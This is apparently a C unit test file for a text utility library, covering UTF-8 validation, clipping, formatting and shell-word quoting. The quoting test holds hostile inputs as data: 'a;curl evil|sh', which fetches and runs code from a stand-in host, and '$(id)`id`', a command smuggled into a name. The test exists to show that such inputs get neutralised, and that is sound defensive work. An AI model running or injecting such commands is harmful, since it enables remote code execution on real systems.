/* Text: tables of what goes in and what comes out. */
#include "unit/base/check.h"

#include "base/text.h"

static void a_text_grows_piece_by_piece(void **state)
{
	struct text text = TEXT_IN(*state);

	assert_string_equal(text_get(&text), "");
	assert_string_equal(text_bytes(&text).data, "");
	for (int i = 0; i < 500; i++) {
		text_add(&text, "ab");
		text_add_bytes(&text, "cdX", 2);
		text_printf(&text, "%03d", i);
	}
	assert_int_equal(text.size, 500 * 7);
	assert_int_equal(strlen(text_get(&text)), text.size);
	assert_memory_equal(text_get(&text) + 499 * 7, "abcd499", 8);
	assert_int_equal(text_bytes(&text).size, text.size);
}

static void null_equals_only_null(void **state)
{
	(void)state;
	assert_true(text_equal(NULL, NULL));
	assert_false(text_equal(NULL, ""));
	assert_false(text_equal("", NULL));
	assert_true(text_equal("a", "a"));
	assert_false(text_equal("a", "A"));
}

static void starts_and_ends_are_found(void **state)
{
	(void)state;
	assert_true(text_starts("migration.sql", "migration"));
	assert_false(text_starts("mig", "migration"));
	assert_true(text_ends("down.sql", ".sql"));
	assert_false(text_ends("sql", ".sql"));
	assert_true(text_starts("", "") && text_ends("", ""));
}

static void white_space_goes_at_both_ends_only(void **state)
{
	static const struct {
		const char *sentence, *in, *out;
	} rows[] = {
		{"nothing to do", "a", "a"},
		{"both ends", " \t a b\r\n", "a b"},
		{"nothing but white space", " \n ", ""},
		{"an empty text", "", ""},
		{"a no-break space is a letter here", "\xC2\xA0x", "\xC2\xA0x"},
	};

	for (size_t i = 0; i < ROWS(rows); i++) {
		CASE(rows[i].sentence);
		assert_string_equal(text_trim(*state, rows[i].in), rows[i].out);
	}
}

static void splitting_keeps_empty_pieces_and_joining_undoes_it(void **state)
{
	static const struct {
		const char *text;
		size_t count;
	} rows[] = {{"", 1}, {"a", 1}, {"a,b", 2}, {",", 2}, {"a,,b,", 4}};

	for (size_t i = 0; i < ROWS(rows); i++) {
		struct text_list list;

		CASE(rows[i].text);
		text_split(*state, rows[i].text, ',', &list);
		assert_int_equal(list.count, rows[i].count);
		assert_string_equal(text_join(*state, &list, ","), rows[i].text);
	}
}

static void a_list_takes_a_text_once(void **state)
{
	struct text_list list = {0};

	assert_false(text_list_has(&list, "ada"));
	text_list_add_once(*state, &list, "ada");
	text_list_add_once(*state, &list, "bob");
	text_list_add_once(*state, &list, "ada");
	text_list_add_once(*state, &list, NULL);
	assert_int_equal(list.count, 2);
	assert_string_equal(list.items[0], "ada");
	assert_true(text_list_has(&list, "bob"));
	assert_false(text_list_has(&list, NULL));
}

static void utf8_is_what_rfc_3629_says(void **state)
{
	static const struct {
		const char *sentence, *bytes;
		bool valid;
	} rows[] = {
		{"ASCII", "abc", true},
		{"nothing", "", true},
		{"two, three and four bytes", "\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80", true},
		{"the last code point U+10FFFF", "\xF4\x8F\xBF\xBF", true},
		{"one above it", "\xF4\x90\x80\x80", false},
		{"the last before the surrogates", "\xED\x9F\xBF", true},
		{"the first surrogate", "\xED\xA0\x80", false},
		{"the last surrogate", "\xED\xBF\xBF", false},
		{"the first behind the surrogates", "\xEE\x80\x80", true},
		{"slash in two bytes", "\xC0\xAF", false},
		{"slash in three bytes", "\xE0\x80\xAF", false},
		{"overlong in four bytes", "\xF0\x80\x80\x80", false},
		{"smallest of two bytes", "\xC2\x80", true},
		{"cut in the middle", "a\xE2\x82", false},
		{"a lone continuation", "\x80", false},
		{"five bytes", "\xF8\x88\x80\x80\x80", false},
		{"FE and FF", "\xFE\xFF", false},
		{"Latin-1", "caf\xE9 au lait", false},
	};

	for (size_t i = 0; i < ROWS(rows); i++) {
		char *exact = arena_alloc(
			*state,
			strlen(rows[i].bytes)); /* without a NUL: a read behind it is seen */

		CASE(rows[i].sentence);
		memcpy(exact, rows[i].bytes, strlen(rows[i].bytes));
		assert_int_equal(text_is_utf8(exact, strlen(rows[i].bytes)), rows[i].valid);
	}
	assert_true(text_is_utf8("a\0b", 3));
}

static void wrong_bytes_become_the_replacement_character(void **state)
{
	const char *valid = "d\xC3\xA9j\xC3\xA0";

	assert_ptr_equal(text_valid(*state, valid), valid);
	assert_string_equal(text_valid(*state, "a\xFF"
	                                       "b\xE2\x82"),
	                    "a\uFFFDb\uFFFD\uFFFD");
}

static void control_characters_are_seen(void **state)
{
	(void)state;
	assert_false(text_has_control("caf\xC3\xA9"));
	assert_true(text_has_control("a\nb"));
	assert_true(text_has_control("\x1b[31m"));
	assert_true(text_has_control("\x7f"));
}

static void clipping_counts_code_points(void **state)
{
	static const struct {
		const char *sentence, *in;
		size_t limit;
		const char *out;
	} rows[] = {
		{"short enough", "abc", 3, "abc"},
		{"one too many", "abcd", 3, "ab…"},
		{"accents count once", "éééé", 4, "éééé"},
		{"accents are not cut apart", "ééééé", 4, "ééé…"},
		{"room for one", "abc", 1, "…"},
		{"room for none", "abc", 0, ""},
		{"an empty text", "", 0, ""},
		{"control characters become spaces", "a\n\x1b[1mb\x7f", 20, "a  [1mb "},
		{"so do C1 and the line separators",
	         "a\xC2\x85"
	         "b\u2028c",
	         20, "a b c"},
		{"wrong bytes become U+FFFD", "a\xFFz", 20, "a\uFFFDz"},
	};

	for (size_t i = 0; i < ROWS(rows); i++) {
		CASE(rows[i].sentence);
		assert_string_equal(text_clip(*state, rows[i].in, rows[i].limit), rows[i].out);
	}
}

static void the_nearest_word_is_offered(void **state)
{
	static const char *const known[] = {"lock_timeout", "statement_timeout", "backup",
	                                    "mode",         "backups",           "on"};
	static const struct {
		const char *sentence, *word, *nearest;
	} rows[] = {
		{"a letter is missing", "lock_timout", "lock_timeout"},
		{"two letters changed places", "bakcup", "backup"},
		{"the nearer of two", "backupz", "backup"},
		{"exactly one of them", "backups", "backups"},
		{"short words may differ in two", "mood", "mode"},
		{"nothing is near", "repository", NULL},
		{"nothing of the word would be left", "xy", NULL},
		{"an empty word", "", NULL},
		{"a word longer than any",
	         "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
	         NULL},
	};

	(void)state;
	for (size_t i = 0; i < ROWS(rows); i++) {
		const char *nearest = text_nearest(rows[i].word, known, ROWS(known));

		CASE(rows[i].sentence);
		assert_true(text_equal(nearest, rows[i].nearest));
	}
	assert_null(text_nearest("mode", known, 0));
}

static void hex_is_lower_case_and_exact(void **state)
{
	char hex[7];

	(void)state;
	text_hex("\x00\xAB\xFF", 3, hex);
	assert_string_equal(hex, "00abff");
	assert_true(text_is_hex("00abff", 6));
	assert_false(text_is_hex("00abff", 5));
	assert_false(text_is_hex("00abf", 6));
	assert_false(text_is_hex("00ABFF", 6));
	assert_false(text_is_hex("00abfg", 6));
	assert_true(text_is_hex("", 0));
}

static void sizes_are_written_for_people(void **state)
{
	static const struct {
		uint64_t bytes;
		const char *text;
	} rows[] = {
		{0, "0 B"},
		{1023, "1023 B"},
		{1024, "1 KiB"},
		{1536, "1.5 KiB"},
		{UINT64_C(168) << 20, "168 MiB"},
		{(UINT64_C(2) << 30) - 1, "1.9 GiB"}, /* never more than there is */
		{UINT64_MAX, "15 EiB"},
	};

	for (size_t i = 0; i < ROWS(rows); i++)
		assert_string_equal(text_size(*state, rows[i].bytes), rows[i].text);
}

static void durations_are_written_for_people(void **state)
{
	static const struct {
		uint64_t milliseconds;
		const char *text;
	} rows[] = {
		{0, "0 ms"},
		{999, "999 ms"},
		{1000, "1 s"},
		{1300, "1.3 s"},
		{12345, "12 s"},
		{60000, "1 min"},
		{242000, "4 min 2 s"},
		{3600000, "1 h"},
		{7500000, "2 h 5 min"},
		{86400000, "1 d"},
		{90000000 + 86400000, "2 d 1 h"},
	};

	for (size_t i = 0; i < ROWS(rows); i++)
		assert_string_equal(text_duration(*state, rows[i].milliseconds), rows[i].text);
}

static void nouns_have_a_plural(void **state)
{
	static const struct {
		size_t count;
		const char *noun, *text;
	} rows[] = {
		{0, "migration", "0 migrations"}, {1, "migration", "1 migration"},
		{2, "migration", "2 migrations"}, {2, "index", "2 indexes"},
		{3, "pass", "3 passes"},          {2, "branch", "2 branches"},
		{2, "query", "2 queries"},        {2, "key", "2 keys"},
		{1, "query", "1 query"},
	};

	for (size_t i = 0; i < ROWS(rows); i++)
		assert_string_equal(text_plural(*state, rows[i].count, rows[i].noun), rows[i].text);
}

static void a_word_of_a_command_is_one_word_for_the_shell(void **state)
{
	static const struct {
		const char *sentence, *text, *word;
	} rows[] = {
		{"as Prisma names it", "20260101000000_add_users", "20260101000000_add_users"},
		{"a path", "prisma/migrations/a", "prisma/migrations/a"},
		{"nothing", "", "''"},
		{"what looks like an option", "-rf", "'-rf'"},
		{"a second command", "a;curl evil|sh", "'a;curl evil|sh'"},
		{"a command in a name", "$(id)`id`", "'$(id)`id`'"},
		{"a quote", "a'b", "'a'\\''b'"},
		{"a line end", "a\nb", "'a b'"},
		{"a home", "~root", "'~root'"},
		{"letters of other tongues", "größe", "'größe'"},
	};

	for (size_t i = 0; i < ROWS(rows); i++) {
		CASE(rows[i].sentence);
		assert_string_equal(text_word(*state, rows[i].text), rows[i].word);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(a_text_grows_piece_by_piece),
		TEST(null_equals_only_null),
		TEST(starts_and_ends_are_found),
		TEST(white_space_goes_at_both_ends_only),
		TEST(splitting_keeps_empty_pieces_and_joining_undoes_it),
		TEST(a_list_takes_a_text_once),
		TEST(utf8_is_what_rfc_3629_says),
		TEST(wrong_bytes_become_the_replacement_character),
		TEST(control_characters_are_seen),
		TEST(clipping_counts_code_points),
		TEST(the_nearest_word_is_offered),
		TEST(a_word_of_a_command_is_one_word_for_the_shell),
		TEST(hex_is_lower_case_and_exact),
		TEST(sizes_are_written_for_people),
		TEST(durations_are_written_for_people),
		TEST(nouns_have_a_plural),
	};

	return cmocka_run_group_tests_name("text", tests, NULL, NULL);
}
